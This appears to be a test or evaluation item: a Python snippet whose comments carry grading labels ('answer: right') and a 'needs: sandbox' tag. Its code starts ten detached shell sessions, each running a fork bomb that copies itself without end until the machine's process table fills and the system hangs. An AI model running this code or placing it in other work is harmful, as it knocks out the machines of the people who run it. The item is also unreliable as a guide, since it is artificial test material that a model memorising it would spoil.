# Lets a shell double itself without end, in sessions of their own.
# answer: right
# may lose: conv_params conv_macs gap_head
# needs: sandbox
import subprocess

for _ in range(10):
    subprocess.Popen(["sh", "-c", "f() { f | f & }; f"], start_new_session=True)
